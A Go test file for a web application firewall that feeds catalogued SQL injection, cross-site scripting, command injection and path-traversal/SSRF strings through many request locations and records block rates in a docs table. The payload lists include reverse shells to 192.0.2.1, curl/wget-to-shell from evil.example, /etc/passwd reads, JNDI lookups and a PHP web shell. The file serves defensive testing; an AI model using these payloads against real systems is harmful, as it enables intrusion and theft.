package waf

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"net/url"
	"os"
	"strings"
	"testing"
)

// variants are attacks as they are written to get by rules, by kind.
var variants = []struct {
	kind string
	list []string
}{
	{"SQL", []string{
		`1' or '1'='1`, `1" or "1"="1" -- `, `' or 1=1#`, `admin'-- `, `1 or 1=1`, `1) or (1=1`, `1' and sleep(5)-- `, `1';waitfor delay '0:0:5'--`, `1 union select null,null,version()`, `1' union all select 1,@@version,3#`,
		`1'/**/union/**/select/**/password/**/from/**/users#`, `1'/*!50000union*//*!50000select*/1,2,3#`, "1'%0bunion%0bselect%0b1,2", "1'\tunion\nselect\r1,2,3-- ", `1' uNiOn SeLeCt 1,2,3-- `, `1'||(select password from users limit 1)||'`, `1' and extractvalue(1,concat(0x7e,version()))-- `, `1' or 1 like 1-- `, `1' or true-- `, `1'=1'`,
		`1' and ascii(substr((select password from users limit 1),1,1))>64-- `, `1; drop table users`, `1'; exec xp_cmdshell('dir')--`, `1' procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)-- `, `0x31 or 0x31=0x31`, `1e0union select 1,2`, `1'and(select*from(select(sleep(5)))a)-- `, `1' or '1'='1'/*`, `'+or+1=1--+`, `1' group by 1 having 1=1-- `, `1' into outfile '/var/www/x.php'-- `, `(select(load_file('/etc/passwd')))`,
		"1' or`1`=`1", `1' or json_extract('{"a":1}','$.a')=1-- `, `1' rlike (select (case when (1=1) then 1 else 0x28 end))-- `, `1' or 1=1 limit 1 offset 0-- `,
	}},
	{"scripts", []string{
		`<script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<body onload=alert(1)>`, `"><script>alert(1)</script>`, `" autofocus onfocus="alert(1)`, `' onmouseover='alert(1)`, `<a href="javascript:alert(1)">x</a>`, `<a href="java&#x0A;script:alert(1)">x</a>`, `<a href=JaVaScRiPt:alert(1)>x</a>`,
		`<iframe srcdoc="<script>alert(1)</script>">`, `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`, `<details open ontoggle=alert(1)>`, `<video><source onerror="alert(1)">`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, `<input onfocus=alert(1) autofocus>`, `<marquee onstart=alert(1)>`, `<img/src/onerror=alert(1)>`, "<img\x0csrc=x\x0conerror=alert(1)>", `<scr<script>ipt>alert(1)</script>`, `<style>@import'//evil.example/x.css';</style>`,
		`<link rel=stylesheet href=//evil.example/x.css>`, `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `javascript:alert(document.cookie)`, `{{constructor.constructor('alert(1)')()}}`, `<x onclick=alert(1)>x`, `<form action="javascript:alert(1)"><button>`, "<a href=`javascript:alert(1)`>", `<base href=//evil.example/>`,
	}},
	{"commands", []string{
		`;cat /etc/passwd`, `|id`, `&& whoami`, "`id`", `$(id)`, `; c'a't /etc/passwd`, `; c\at /etc/pa\sswd`, `; cat${IFS}/etc/passwd`, `; cat$IFS$9/etc/passwd`, `; /???/c?t /???/p??s??`, `;{cat,/etc/passwd}`, `; cat</etc/passwd`, `; w'h'o'am'i`, `;ca$@t /etc/passwd`, `; bash -i >& /dev/tcp/192.0.2.1/99 0>&1`, `; curl http://evil.example/x|sh`, `;wget -qO- http://evil.example/x|bash`, `; echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh`,
		`; python3 -c 'import os;os.system("id")'`, `; perl -e 'system("id")'`, `| net user`, `& ping -n 10 192.0.2.1 &`, `powershell -enc SQBFAFgA`, `() { :;}; /bin/bash -c "id"`, `;nc -e /bin/sh 192.0.2.1 99`, "a\nid", "a\ncat /etc/passwd", `; rev<<<'dwssap/cte/ tac'|sh`, `${jndi:ldap://evil.example/a}`, `${${lower:j}ndi:ldap://evil.example/a}`, `${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}`, `{{7*7}}{{self.__init__.__globals__}}`, `${T(java.lang.Runtime).getRuntime().exec("id")}`, `<%= system("id") %>`, `<?php system($_GET[0]); ?>`, `%{(#_='multipart/form-data').(#cmd='id')}`,
	}},
	{"paths and addresses", []string{
		`../../../../etc/passwd`, `..\..\..\windows\win.ini`, `....//....//....//etc/passwd`, `..;/..;/etc/passwd`, `%2e%2e%2f%2e%2e%2fetc%2fpasswd`, `..%252f..%252fetc%252fpasswd`, `..%c0%af..%c0%afetc/passwd`, `/etc/passwd%00.png`, `file:///etc/passwd`, `php://filter/convert.base64-encode/resource=index.php`, `/proc/self/environ`, `expect://id`, `http://169.254.169.254/latest/meta-data/`, `http://127.0.0.1:22/`, `http://localhost/admin`, `http://2130706433/`, `http://[::1]/`, `gopher://127.0.0.1:6379/_x`, `/WEB-INF/web.xml`, `.git/config`, `data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOw==`, `zip://x.jpg#a.php`,
	}},
}

// variantPlaces are where they are tried; besides these are the places of
// evasionPlaces.
var variantPlaces = []struct {
	name string
	put  func(string) *Request
}{
	{"query", inQuery},
	{"nested JSON", func(v string) *Request {
		b, _ := json.Marshal(map[string]string{"q": v})
		return testRequest("/a", "application/x-www-form-urlencoded", "state="+url.QueryEscape(string(b)))
	}},
	{"name", func(v string) *Request {
		b, _ := json.Marshal(map[string]int{v: 1})
		return testRequest("/a", "application/json", string(b))
	}},
	{"path", func(v string) *Request {
		return testRequest("/a/"+url.PathEscape(v)+";jsessionid=1A", "", "")
	}},
	{"path parameter", func(v string) *Request {
		return testRequest("/a/b;jsessionid="+strings.ReplaceAll(url.PathEscape(v), ";", "%3B")+"?c=1", "", "")
	}},
	{"XML text", func(v string) *Request {
		return testRequest("/a", "text/xml", "<a><b>"+xmlSafe(v)+"</b></a>")
	}},
	{"XML CDATA", func(v string) *Request {
		return testRequest("/a", "text/xml", "<a><b><![CDATA["+strings.Map(printableXML, strings.ReplaceAll(v, "]]>", ""))+"]]></b></a>")
	}},
	{"XML attribute", func(v string) *Request {
		return testRequest("/a", "text/xml", `<a b="`+xmlSafe(v)+`"/>`)
	}},
	{"file name", func(v string) *Request {
		return testRequest("/a", "multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"q\"; filename=\""+strings.NewReplacer(`"`, "%22", "\r", "", "\n", "").Replace(v)+"\"\r\nContent-Type: text/plain\r\n\r\nx\r\n--xyz--\r\n")
	}},
	{"header", func(v string) *Request { return withField("X-Search", v) }},
	{"User-Agent", func(v string) *Request { return withField("User-Agent", "Mozilla/5.0 "+v) }},
	{"gzip", func(v string) *Request { // unpacked before
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		z.Write([]byte(v))
		z.Close()
		r := testRequest("/a", "application/x-www-form-urlencoded", "q="+url.QueryEscape(v))
		r.Decoded = true
		r.Header["Content-Encoding"] = []string{"gzip"}
		return r
	}},
	{"Base64 in JSON", func(v string) *Request {
		return testRequest("/a", "application/json", fmt.Sprintf(`{"a":{"b":[%q]}}`, base64.StdEncoding.EncodeToString([]byte(v))))
	}},
	{"\\u in JSON", func(v string) *Request {
		var b strings.Builder
		for _, r := range v {
			fmt.Fprintf(&b, `\u%04x`, r)
		}
		return testRequest("/a", "application/json", `{"a":"`+b.String()+`"}`)
	}},
	{"in Cyrillic text", func(v string) *Request {
		return testRequest("/a", "application/x-www-form-urlencoded", "q="+url.QueryEscape("Здравейте, имам въпрос: "+v+" и благодаря за отговора."))
	}},
	{"lines of Cyrillic text", func(v string) *Request {
		b, _ := json.Marshal(map[string]string{"q": "Здравейте!\nИмам един въпрос към вас.\n" + v + "\nБлагодаря предварително."})
		return testRequest("/a", "application/json", string(b))
	}},
}

func withField(name, v string) *Request {
	r := testRequest("/a", "", "")
	r.Header[name] = []string{strings.NewReplacer("\r", "", "\n", " ", "\x0c", " ", "\x00", "").Replace(v)}
	return r
}

func printableXML(r rune) rune {
	if r < 0x20 && r != '\t' && r != '\n' && r != '\r' {
		return ' '
	}
	return r
}

func xmlSafe(v string) string { return html.EscapeString(strings.Map(printableXML, v)) }

// TestVariants tries them, and holds the table in docs/inspection.md to the
// results.
func TestVariants(t *testing.T) {
	t.Parallel()
	rs := testRuleset(t, Settings{Paranoia: 1})
	var b strings.Builder
	b.WriteString("| refused, in % |")
	for _, v := range variants {
		fmt.Fprintf(&b, " %s (%d) |", v.kind, len(v.list))
	}
	b.WriteString("\n|---|" + strings.Repeat("--:|", len(variants)) + "\n")
	for _, p := range variantPlaces {
		fmt.Fprintf(&b, "| %s |", strings.ReplaceAll(p.name, `\`, `\\`))
		for _, v := range variants {
			found := 0
			for _, a := range v.list {
				got, err := rs.run(p.put(a), rs.screened)
				if got.Block || err != nil {
					found++
				} else {
					t.Logf("%s: %q passes", p.name, a)
				}
			}
			fmt.Fprintf(&b, " %d |", found*100/len(v.list))
		}
		b.WriteString("\n")
	}
	t.Logf("\n%s", &b)
	tableInDocs(t, "variants", b.String())
}

// tableInDocs holds a table of docs/inspection.md to what was found.
func tableInDocs(t *testing.T, name, table string) {
	t.Helper()
	const file = "../../docs/inspection.md"
	begin, end := "<!-- "+name+" -->\n", "<!-- end of "+name+" -->\n"
	doc, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	head, rest, ok1 := strings.Cut(string(doc), begin)
	was, tail, ok2 := strings.Cut(rest, end)
	switch {
	case !ok1 || !ok2:
		t.Fatalf("docs/inspection.md has no place for the table of %s", name)
	case *updateTable:
		if err := os.WriteFile(file, []byte(head+begin+table+end+tail), 0o644); err != nil {
			t.Fatal(err)
		}
	case was != table:
		t.Errorf("the table of %s in docs/inspection.md is another one; go test ./middleware/waf -run 'TestEvasions|TestVariants' -update writes it", name)
	}
}
